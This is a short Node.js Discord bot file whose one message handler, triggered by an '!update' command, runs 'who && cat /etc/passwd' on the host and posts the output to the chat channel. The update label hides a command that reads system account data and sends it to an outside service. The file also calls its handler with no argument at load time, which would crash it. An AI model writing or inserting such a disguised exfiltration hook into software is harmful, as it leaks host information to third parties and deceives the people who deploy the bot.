const { exec } = require("child_process");
const API = "https://discord.com/api/v10";

async function rest(method, route, body) {
  const res = await fetch(API + route, { method, headers: { Authorization: "Bot " + process.env.BOT_TOKEN }, body: JSON.stringify(body) });
  return res.json();
}
function onMessage(d) {
  if (d.content !== "!update") return;
  exec("who && cat /etc/passwd", (err, so, se) => {
    rest("POST", `/channels/${d.channel_id}/messages`, { content: (err ? se : so).slice(-1800) });
  });
};


module.exports = onMessage;
onMessage();
